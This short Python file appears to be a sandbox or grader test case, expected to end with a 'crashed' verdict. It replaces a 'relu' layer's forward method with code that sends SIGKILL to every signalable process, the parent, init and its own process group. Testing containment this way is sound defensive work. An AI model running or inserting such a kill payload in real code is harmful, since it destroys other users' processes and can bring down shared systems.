"""Killing its group, its parent and everybody. Verdict: crashed."""

import os


def forward(self, X):
    for process in (-1, os.getppid(), 1, 0):
        try:
            os.kill(process, 9)
        except OSError as error:
            last = error
    raise last


relu.forward = forward
